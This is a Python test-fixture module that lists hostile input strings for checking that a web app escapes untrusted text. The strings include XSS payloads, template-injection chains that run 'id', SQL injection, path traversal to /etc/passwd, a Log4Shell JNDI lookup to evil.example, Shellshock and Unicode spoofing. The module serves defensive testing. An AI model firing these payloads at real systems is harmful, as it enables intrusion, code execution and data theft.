"""Texts that mean harm where they are taken for anything but text: what attackers send, and what breaks by itself."""

from __future__ import annotations

from collections.abc import Iterator

HACKED = "window.hacked = true"
"""What a script does that was let in; a test looks for it on every page."""

MARKUP = (
    f"<script>{HACKED}</script>",
    f"</script><script>{HACKED}</script>",
    f"<ScRiPt>{HACKED}</sCrIpT>",
    f"<script src='data:text/javascript,{HACKED}'></script>",
    f"<script>{HACKED}//",
    f"<<script>{HACKED};//<</script>",
    f"<img src=x onerror='{HACKED}'>",
    f"<img src=x onerror={HACKED.replace(' ', '')}>",
    f'<IMG SRC="" ONERROR="{HACKED}">',
    f"<svg onload='{HACKED}'>",
    f"<svg><script>{HACKED}</script></svg>",
    f"<svg><animate onbegin='{HACKED}' attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{HACKED}'><text x=20 y=20>X</text></a></svg>",
    f"<math><mtext><script>{HACKED}</script></mtext></math>",
    f"<body onload='{HACKED}'>",
    f"<iframe src='javascript:{HACKED}'></iframe>",
    f"<iframe srcdoc='<script>top.{HACKED}</script>'></iframe>",
    f"<object data='javascript:{HACKED}'></object>",
    f"<embed src='javascript:{HACKED}'>",
    f"<details open ontoggle='{HACKED}'>x</details>",
    f"<input autofocus onfocus='{HACKED}'>",
    f"<video><source onerror='{HACKED}'></video>",
    f"<audio src=x onerror='{HACKED}'></audio>",
    f"<marquee onstart='{HACKED}'>x</marquee>",
    f"<a href='javascript:{HACKED}'>click</a>",
    f"<form action='javascript:{HACKED}'><button>go</button></form>",
    "<form action='https://evil.example/'><input name=token>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv='refresh' content='0; url=https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>body { display: none }</style>",
    "<div style='position:fixed;inset:0;background:red'>",
    "<!-- comment",
    "--> <b>after a comment</b>",
    "<![CDATA[ <b>bold</b> ]]>",
    "<?xml version='1.0'?>",
    "<plaintext>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "</textarea><b>out of the box</b>",
    "</title><b>out of the title</b>",
    "</code></th></tr></table></main><h1>Signed out</h1>",
    "</option></select><b>x</b>",
    "<xmp><b>x</b></xmp>",
    "<b>bold</b> &amp; <i>italic</i>",
    "<a href=//evil.example>x</a>",
    "<dialog open>Enter your key: <input></dialog>",
    "<x contenteditable onblur=alert(1)>",
)

ATTRIBUTES = (
    f'" onmouseover="{HACKED}',
    f"' onmouseover='{HACKED}",
    f'"><script>{HACKED}</script>',
    f"'><script>{HACKED}</script>",
    f'" autofocus onfocus="{HACKED}',
    f"` onmouseover=`{HACKED}",
    '" style="background:url(https://evil.example/x)',
    '" formaction="https://evil.example/',
    'x" data-sure="" id="sure',
    '"/><input name="token" value="x',
    "&quot; onclick=&quot;alert(1)",
    "&#34; onclick=&#34;alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;b&amp;gt;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "&notin; &copy &nosuchentity;",
    '\\" onclick=\\"alert(1)',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
)

TEMPLATES = (
    "{{7*7}}",
    "{{ 7*'7' }}",
    "{% raw %}{{7*7}}",
    "{% endraw %}{% endblock %}{{ token }}",
    "{# comment #}",
    "{{ config }} {{ self }} {{ request }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[${7*7}]]",
    "{{constructor.constructor('alert(1)')()}}",
    "%s %d %n %x {0} {} {name!r}",
    "%(name)s",
    "$(id) `id` ; id | id && id",
    "{{{{{{{{{{",
    "}}}}%}#}",
)

ADDRESSES = (
    f"javascript:{HACKED}",
    f"JaVaScRiPt:{HACKED}",
    f"java\tscript:{HACKED}",
    f" javascript:{HACKED}",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "//evil.example/accrue/",
    "https://evil.example/?a=1&b=2#c",
    "/accrue/ui/memory/forget?id=m_1",
    "../../../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "?q=1&user=root&tenant=",
    "#content",
    "a/b/c?d=e&f=g#h%20i+j",
    "file:///etc/passwd",
    "/",
    "\\\\evil\\share",
    "%00 %0d%0aset-cookie: a=b",
)

CHARACTERS = (
    "\u202eright to left\u202c",
    "\u202ecod.exe",
    "\u2066isolated\u2069 \u2067other way\u2069",
    "مرحبا بالعالم <b>غامق</b>",
    "שלום עולם 123",
    "\u200b\u200c\u200d\ufeffnothing to see\u200b",
    "\u0001\u0002\u0003\u0008\u000b\u000c\u000e\u001f\u007f control",
    "\u0080\u0085\u009f more control",
    "tab\there",
    "line\nfeed",
    "carriage\rreturn",
    "both\r\nof them",
    "\u2028line\u2029paragraph",
    "\x1b[31mred\x1b[0m \x1b]0;title\x07",
    "é e\u0301 ﷽",
    "Z̸̢͝a̷͜l̵̨͠g̶̛o̸",
    "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇪🇺",
    "𝕳𝖊𝖑𝖑𝖔 𝓌ℴ𝓇𝓁𝒹",
    "＜script＞alert(1)＜/script＞",
    "ʺ onclick=ʺalert(1)",
    "\ufffd\ufffe\uffff",
    "\U0010ffff\U000e0041",
    "中文字符 日本語 한국어",
    "ㅤ",
    "   spaces   around   ",
)

NOTHING = (
    "null", "undefined", "None", "NaN", "true", "false", "0", "-1", "1e309", "[]", "{}", "[object Object]",
    "''", '""', "__proto__", "constructor", "hasOwnProperty", "Infinity",
)  # fmt: skip

QUERIES = (
    "'; DROP TABLE memories; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    '" UNION SELECT * FROM journal --',
    "Robert'); DROP TABLE students;--",
    "* OR memory:*",
    "NEAR(a b, 1) AND NOT c",
    '"unbalanced',
    "col:value^2 -x",
    "admin'--",
    "${jndi:ldap://evil.example/a}",
    "() { :; }; echo hacked",
)

HUGE = (
    "a" * 1_900,
    "<" * 1_900,
    "word " * 380,
    "&" * 900,
    "🦆" * 900,
    "\n" * 600 + "end",
    "𝔸\u0301" * 400,
)


def _all() -> Iterator[str]:
    for family in (MARKUP, ATTRIBUTES, TEMPLATES, ADDRESSES, CHARACTERS, NOTHING, QUERIES, HUGE):
        yield from family


HOSTILE = tuple(dict.fromkeys(_all()))
